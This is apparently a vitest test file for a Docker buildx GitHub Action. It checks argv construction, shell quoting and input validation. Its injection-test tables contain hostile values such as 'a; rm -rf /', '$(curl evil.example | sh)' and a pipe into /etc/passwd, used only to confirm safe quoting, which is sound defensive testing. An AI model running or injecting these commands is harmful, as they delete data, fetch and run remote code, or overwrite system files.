/**
 * build-push-action's pass-through inputs, from the raw input (its list syntax) to the buildx argv:
 * each row is one input as a workflow writes it and the arguments build-push-action would pass.
 */
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { buildSpec } from '../support/helpers.js';
import { buildxArgs, isEvaluation } from '../../src/docker/buildx-args.js';
import { renderCommand } from '../../src/docker/render-command.js';
import { passThroughFlags } from '../../src/steps/build.js';
import { parse } from '../inputs/fixtures.js';

describe('docker/buildx-args', () => {
  const URI = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/my-app';

  const spec = buildSpec;

  describe('buildxArgs', () => {
    it('full spec → exact argv, in order', () => {
      const args = buildxArgs(
        spec({
          builder: 'ecr-build-push-1',
          file: 'docker/prod.Dockerfile',
          target: 'runtime',
          buildArgs: [
            { key: 'NODE_VERSION', value: '20' },
            { key: 'EMPTY', value: '' },
          ],
          labels: { 'org.opencontainers.image.revision': 'abc', 'dev.ecr-build-push.fingerprint': 'f00' },
          annotations: [{ key: 'index:org.opencontainers.image.title', value: 'app' }],
          platforms: ['linux/amd64', 'linux/arm64'],
          tags: [`${URI}:v1.2.3`, `${URI}:latest`],
          secrets: [
            { id: 'npm', path: '/tmp/job/secrets/npm' },
            { id: 'gh', path: 'secrets/gh.txt' },
          ],
          cacheFrom: [`type=registry,ref=${URI}:buildcache`],
          cacheTo: [`type=registry,ref=${URI}:buildcache,mode=max,image-manifest=true,oci-mediatypes=true`],
          provenance: 'mode=max',
          sbom: 'true',
          noCache: true,
          pull: true,
          push: true,
          load: true,
          context: 'app',
        }),
      );
      expect(args).toEqual([
        'buildx',
        'build',
        '--builder',
        'ecr-build-push-1',
        '--file',
        'docker/prod.Dockerfile',
        '--target',
        'runtime',
        '--build-arg',
        'NODE_VERSION=20',
        '--build-arg',
        'EMPTY=',
        '--label',
        'org.opencontainers.image.revision=abc',
        '--label',
        'dev.ecr-build-push.fingerprint=f00',
        '--annotation',
        'index:org.opencontainers.image.title=app',
        '--platform',
        'linux/amd64,linux/arm64',
        '--tag',
        `${URI}:v1.2.3`,
        '--tag',
        `${URI}:latest`,
        '--secret',
        'id=npm,src=/tmp/job/secrets/npm',
        '--secret',
        'id=gh,src=secrets/gh.txt',
        '--cache-from',
        `type=registry,ref=${URI}:buildcache`,
        '--cache-to',
        `type=registry,ref=${URI}:buildcache,mode=max,image-manifest=true,oci-mediatypes=true`,
        '--provenance=mode=max',
        '--sbom=true',
        '--no-cache',
        '--pull',
        '--push',
        '--load',
        '--metadata-file',
        '/tmp/job/metadata.json',
        '--iidfile',
        '/tmp/job/iid',
        'app',
      ]);
    });

    it('minimal spec: provenance explicitly false, metadata and iid files, context last', () => {
      expect(buildxArgs(spec())).toEqual([
        'buildx',
        'build',
        '--provenance=false',
        '--metadata-file',
        '/tmp/job/metadata.json',
        '--iidfile',
        '/tmp/job/iid',
        '.',
      ]);
    });

    // provenance input → flag
    const provenance: [false | string, string][] = [
      [false, '--provenance=false'],
      ['true', '--provenance=true'],
      ['mode=min', '--provenance=mode=min'],
      ['mode=max', '--provenance=mode=max'],
    ];
    it.each(provenance)('provenance %s → %s', (value, flag) => {
      const args = buildxArgs(spec({ provenance: value }));
      expect(args.filter((a) => a.startsWith('--provenance'))).toEqual([flag]);
    });

    it('secrets appear only as id=X,src=PATH, never as a value', () => {
      const args = buildxArgs(spec({ secrets: [{ id: 'token', path: '/run/job/secrets/token' }] }));
      const i = args.indexOf('--secret');
      expect(args.slice(i, i + 2)).toEqual(['--secret', 'id=token,src=/run/job/secrets/token']);
      expect(args.filter((a) => a === '--secret')).toHaveLength(1);
      expect(args.some((a) => /env=|SECRET_VALUE/.test(a))).toBe(false);
    });

    // hostile values arrive as one argv element each, byte for byte
    const hostile: [string, string][] = [
      ['semicolon', 'a; rm -rf /'],
      ['command substitution', '$(curl evil.example | sh)'],
      ['backticks', '`id`'],
      ['single quotes', "it's"],
      ['double quotes', 'say "hi"'],
      ['newline', 'line1\nline2'],
      ['dollar variable', '$HOME ${PATH}'],
      ['glob', '*.txt ?'],
      ['pipe and redirect', 'x | tee /etc/passwd > /dev/null'],
    ];
    it.each(hostile)('%s in build-arg, label, target and tag stays a single element', (_name, value) => {
      const args = buildxArgs(
        spec({
          buildArgs: [{ key: 'VALUE', value }],
          labels: { note: value },
          target: value,
          tags: [`${URI}:${value}`],
          file: value,
        }),
      );
      expect(args[args.indexOf('--build-arg') + 1]).toBe(`VALUE=${value}`);
      expect(args[args.indexOf('--label') + 1]).toBe(`note=${value}`);
      expect(args[args.indexOf('--target') + 1]).toBe(value);
      expect(args[args.indexOf('--tag') + 1]).toBe(`${URI}:${value}`);
      expect(args[args.indexOf('--file') + 1]).toBe(value);
      // Nothing split or added: the count is fixed by the spec.
      expect(args).toHaveLength(
        buildxArgs(
          spec({
            buildArgs: [{ key: 'V', value: 'x' }],
            labels: { n: 'x' },
            target: 'x',
            tags: ['x'],
            file: 'x',
          }),
        ).length,
      );
    });
  });

  describe('renderCommand', () => {
    const rows: [string, string[], string][] = [
      [
        'plain words unquoted',
        ['buildx', 'build', '--tag', `${URI}:v1.2.3`, '.'],
        `docker buildx build --tag ${URI}:v1.2.3 .`,
      ],
      [
        'key=value with commas',
        ['--cache-to', 'type=registry,ref=x:y,mode=max'],
        'docker --cache-to type=registry,ref=x:y,mode=max',
      ],
      ['space quoted', ['--label', 'a=b c'], "docker --label 'a=b c'"],
      ['single quote escaped', ['--build-arg', "A=it's"], "docker --build-arg 'A=it'\\''s'"],
      ['command substitution quoted', ['$(id)'], "docker '$(id)'"],
      ['backticks quoted', ['`id`'], "docker '`id`'"],
      ['semicolon quoted', ['a;b'], "docker 'a;b'"],
      ['empty argument kept', ['--build-arg', ''], "docker --build-arg ''"],
      ['newline escaped: the echo stays one line', ['a\nb'], "docker $'a\\nb'"],
      ['workflow command after a newline', ['x\n::warning::hi'], "docker $'x\\n::warning::hi'"],
      ['escape and NUL-free control characters', ['\u001b[31m\r'], "docker $'\\x1b[31m\\r'"],
      ['quotes and backslashes in ANSI-C form', ["it's\\\n"], "docker $'it\\'s\\\\\\n'"],
      ['line separator escaped', ['a\u2028b'], "docker $'a\\u2028b'"],
    ];
    it.each(rows)('%s', (_name, args, expected) => {
      expect(renderCommand(args)).toBe(expected);
    });

    it('round-trips through bash: the shell sees exactly the argv', () => {
      const args = buildxArgs(
        spec({
          buildArgs: hostileValues().map((value, i) => ({ key: `A${i}`, value })),
          tags: [`${URI}:v1`],
          push: true,
        }),
      );
      const script = `docker() { printf '%s\\0' "$@"; }\n${renderCommand(args)}`;
      const out = execFileSync('bash', ['-c', script], { encoding: 'utf8' });
      expect(out.split('\0').slice(0, -1)).toEqual(args);
    });
  });

  function hostileValues(): string[] {
    return [
      'a; rm -rf /',
      '$(id)',
      '`id`',
      "it's",
      'say "hi"',
      'l1\nl2',
      '$HOME',
      '*',
      '',
      'back\\slash',
      'tab\there',
      'esc\u001b[0m',
      'cr\r',
      "mixed 'quote'\nand\\newline",
    ];
  }
});

function argsFor(inputs: Record<string, string>): string[] {
  const b = parse(inputs).build;
  return buildxArgs(
    buildSpec({
      push: b.push,
      load: b.load,
      provenance: b.provenance,
      sbom: b.sbom,
      ...passThroughFlags(b),
    }),
  );
}

/** Whether `part` appears in `args` as a contiguous run. */
function contains(args: string[], part: string[]): boolean {
  return args.some((_, i) => part.every((p, j) => args[i + j] === p));
}

describe('build-push-action inputs → buildx arguments', () => {
  it.each([
    // [input, raw value, arguments that must appear]
    [
      'build-contexts',
      'alpine=docker-image://alpine:3.20',
      ['--build-context', 'alpine=docker-image://alpine:3.20'],
    ],
    [
      'build-contexts',
      'shared=../shared\n"src=https://github.com/o/r.git#main,subdir"',
      [
        '--build-context',
        'shared=../shared',
        '--build-context',
        'src=https://github.com/o/r.git#main,subdir',
      ],
    ],
    ['ssh', 'default', ['--ssh', 'default']],
    ['ssh', 'default,github=/tmp/agent.sock', ['--ssh', 'default', '--ssh', 'github=/tmp/agent.sock']],
    ['network', 'host', ['--network', 'host']],
    ['network', 'none', ['--network', 'none']],
    [
      'add-hosts',
      'docker:10.180.0.1,db.internal=10.0.0.5',
      ['--add-host', 'docker:10.180.0.1', '--add-host', 'db.internal=10.0.0.5'],
    ],
    ['shm-size', '2g', ['--shm-size', '2g']],
    ['ulimit', 'nofile=1024:1024\nnproc=512', ['--ulimit', 'nofile=1024:1024', '--ulimit', 'nproc=512']],
    ['allow', 'network.host,security.insecure', ['--allow', 'network.host,security.insecure']],
    ['call', 'check', ['--call', 'check']],
    ['call', 'outline', ['--call', 'outline']],
    ['attests', 'type=sbom,generator=image:1', ['--attest', 'type=sbom,generator=image:1']],
    ['cgroup-parent', '/actions_job', ['--cgroup-parent', '/actions_job']],
    ['no-cache-filters', 'deps,test', ['--no-cache-filter', 'deps', '--no-cache-filter', 'test']],
    ['sbom', 'true', ['--sbom=true']],
    ['sbom', 'generator=docker/buildkit-syft-scanner:1', ['--sbom=generator=docker/buildkit-syft-scanner:1']],
  ])('%s: %j', (input, raw, expected) => {
    const args = argsFor({ [input]: raw });
    expect(contains(args, expected), args.join(' ')).toBe(true);
  });

  it.each([
    // [inputs, arguments that must NOT appear]
    [{}, ['--call', '--ssh', '--network', '--add-host', '--allow', '--attest', '--sbom=true']],
    [{ sbom: 'false' }, ['--sbom=false']],
    // call: check evaluates: nothing is pushed, loaded or written as metadata (build-push-action's `call`)
    [{ call: 'check', push: 'true' }, ['--push', '--metadata-file', '--iidfile']],
    [{ call: 'check', load: 'true' }, ['--load']],
    // an attestation of the same type wins over the provenance / sbom inputs
    [{ attests: 'type=provenance,mode=max', provenance: 'false' }, ['--provenance=false']],
    [{ attests: 'type=sbom', sbom: 'true' }, ['--sbom=true']],
  ])('%j passes none of %j', (inputs, absent) => {
    const args = argsFor(inputs);
    for (const flag of absent) expect(args, flag).not.toContain(flag);
  });

  it('call: build is a plain build (push and metadata kept)', () => {
    const args = argsFor({ call: 'build' });
    expect(args).toContain('--push');
    expect(args).toContain('--metadata-file');
    expect(args).not.toContain('--call');
  });

  it.each([
    [undefined, false],
    ['', false],
    ['build', false],
    ['check', true],
    ['check,format=json', true],
    ['outline', true],
    ['targets', true],
  ])('isEvaluation(%j) = %s', (call, evaluation) => {
    expect(isEvaluation(call)).toBe(evaluation);
  });
});

describe('malformed pass-through inputs fail before any call', () => {
  it.each([
    ['ssh', 'my key'],
    ['add-hosts', 'nohostip'],
    ['shm-size', '2 gigs'],
    ['ulimit', 'nofile'],
    ['call', 'lint'],
    ['attests', 'sbom'],
    ['secret-envs', 'NPM_TOKEN'],
    ['secret-envs', 'npm=1TOKEN'],
    ['sbom', 'yes please'],
    ['build-contexts', 'no-equals-sign'],
  ])('%s: %j', (input, raw) => {
    expect(() => parse({ [input]: raw })).toThrow(new RegExp(`'${input}'`));
  });

  it('a misspelt call suggests check', () => {
    expect(() => parse({ call: 'chek' })).toThrow(/Did you mean "check"/);
  });
});
